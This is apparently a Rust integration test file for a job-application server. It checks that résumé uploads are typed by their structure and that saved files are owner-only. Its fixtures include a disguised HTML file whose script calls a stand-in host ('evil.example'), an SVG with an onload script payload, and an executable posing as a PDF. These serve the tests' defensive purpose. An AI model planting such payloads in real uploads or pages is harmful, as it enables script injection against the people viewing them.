//! What a candidate's answers can do after the endpoint stored them, and the
//! store's promises to recruiters: formulas in the CSV export, escape sequences
//! in the terminal, résumés that are not what they claim, ids that must never
//! come back, the rate limit, and which store the commands read. The real
//! binary, `serve --production` (or `serve`) on 127.0.0.1, real requests.

mod common;
use common::form::Form;
use common::server::{Response, Server, post_form};
use common::{Run, TODAY, TestSite};
use std::path::Path;
use std::process::Command;

const ROLE: &str = "/careers/apply/backend-engineer";

/// The `valid/basic` fixture with these `[apply]` settings (no rate limit unless given).
fn site_with(apply: &str) -> TestSite {
    let site = TestSite::fixture("valid/basic");
    let extra = if apply.contains("rate_limit") {
        apply.to_string()
    } else {
        format!("rate_limit = 0\n{apply}")
    };
    let config = site.read("site.toml");
    site.write(
        "site.toml",
        &config.replace("[apply]\n", &format!("[apply]\n{extra}\n")),
    );
    site
}

/// `openings serve --production` on a free port of 127.0.0.1, data in `data/`.
fn production(site: &TestSite) -> Server {
    let mut command = Command::new(env!("CARGO_BIN_EXE_openings"));
    command
        .args([
            "serve",
            "--production",
            "--bind",
            "127.0.0.1",
            "--port",
            "0",
        ])
        .args(["--today", TODAY, "--data"])
        .arg(site.path("data"))
        .current_dir(site.root());
    Server::launch(command)
}

/// `openings applications ARGS --data data/` in the site folder.
fn applications(site: &TestSite, args: &[&str]) -> Run {
    let data = site.path("data");
    let mut all = vec!["applications"];
    all.extend_from_slice(args);
    all.extend(["--data", data.to_str().unwrap()]);
    site.run(&all)
}

fn apply(server: &Server, form: &Form) -> Response {
    post_form(server.addr, ROLE, form)
}

#[track_caller]
fn status(response: Response, want: u16) -> Response {
    assert_eq!(response.status, want, "{}", response.body);
    response
}

fn exported(site: &TestSite) -> Vec<serde_json::Value> {
    let run = applications(site, &["export", "--format", "json"]).success();
    serde_json::from_str(&run.stdout).unwrap()
}

fn zip_with(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut out = std::io::Cursor::new(Vec::new());
    let mut w = zip::ZipWriter::new(&mut out);
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, bytes) in entries {
        w.start_file(*name, stored).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap();
    out.into_inner()
}

fn docx() -> Vec<u8> {
    let types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    zip_with(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", b"<w:document/>"),
    ])
}

fn odt() -> Vec<u8> {
    zip_with(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office:document-content/>"),
    ])
}

fn doc() -> Vec<u8> {
    use std::io::Write;
    let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    file.create_stream("/WordDocument")
        .unwrap()
        .write_all(b"\xec\xa5 a Word 97 document")
        .unwrap();
    file.flush().unwrap();
    file.into_inner().into_inner()
}

#[test]
fn a_resume_is_judged_by_its_structure_and_stored_as_what_it_is() {
    let site = site_with("");
    let server = production(&site);
    let mut html = b"<html><body><script>fetch('//evil.example')</script>".to_vec();
    html.extend(b"%PDF-1.7\n%%EOF\n</body></html>");
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><!-- %PDF-1.4 --></svg>\n%%EOF";
    let exe = [
        &b"MZ\x90\x00\x03\x00\x00\x00"[..],
        b"%PDF-1.4 This program cannot be run in DOS mode %%EOF",
    ]
    .concat();
    let no_types = zip_with(&[("word/document.xml", b"<w:document/>")]);
    let refused: [(&str, &[u8]); 4] = [
        ("cv.pdf", &html),
        ("cv.pdf", svg),
        ("cv.pdf", &exe),
        ("cv.docx", &no_types),
    ];
    for (name, bytes) in refused {
        let reply = status(
            apply(&server, &Form::valid().file(name, bytes.to_vec())),
            422,
        );
        assert!(
            reply.body.contains("Attach a PDF, DOC, DOCX or ODT file"),
            "{name}"
        );
        assert!(
            reply.body.contains("value=\"Ada Lovelace\""),
            "{name}: answers kept"
        );
        assert!(
            reply.body.contains("Twice &lt;really&gt;.</textarea>"),
            "{name}"
        );
    }
    assert!(exported(&site).is_empty());
    // Names that lie the other way: the kind stored is the one found.
    let accepted = [
        ("resume.pdf", common::form::resume_pdf(), "pdf"),
        ("resume.pdf", docx(), "docx"),
        ("cv.doc", odt(), "odt"),
        ("cv.docx", doc(), "doc"),
    ];
    for (name, bytes, _) in &accepted {
        status(
            apply(&server, &Form::valid().file(name, bytes.clone())),
            200,
        );
    }
    let stored = exported(&site);
    let saved = site.path("saved");
    for (app, (name, bytes, kind)) in stored.iter().zip(&accepted) {
        assert_eq!(app["files"][0]["kind"], *kind, "{name}");
        assert_eq!(app["files"][0]["name"], *name);
        let id = app["id"].to_string();
        applications(
            &site,
            &["show", &id, "--save-files", saved.to_str().unwrap()],
        )
        .success();
        let file = saved.join(format!("{id}-resume.{kind}"));
        assert_eq!(&std::fs::read(&file).unwrap(), bytes);
    }
}

#[cfg(unix)]
#[test]
fn saved_files_are_owner_only_under_umask_022() {
    use std::os::unix::fs::PermissionsExt;
    let site = site_with("");
    let server = production(&site);
    status(apply(&server, &Form::valid()), 200);
    let target = site.path("saved/new/deeper");
    let out = Command::new("sh")
        .args(["-c", "umask 022 && exec \"$0\" \"$@\""])
        .arg(env!("CARGO_BIN_EXE_openings"))
        .args(["applications", "show", "1", "--save-files"])
        .arg(&target)
        .arg("--data")
        .arg(site.path("data"))
        .current_dir(site.root())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    for dir in ["saved", "saved/new", "saved/new/deeper"] {
        assert_eq!(mode(&site.path(dir)), 0o700, "{dir}");
    }
    assert_eq!(mode(&target.join("1-resume.pdf")), 0o600);
}
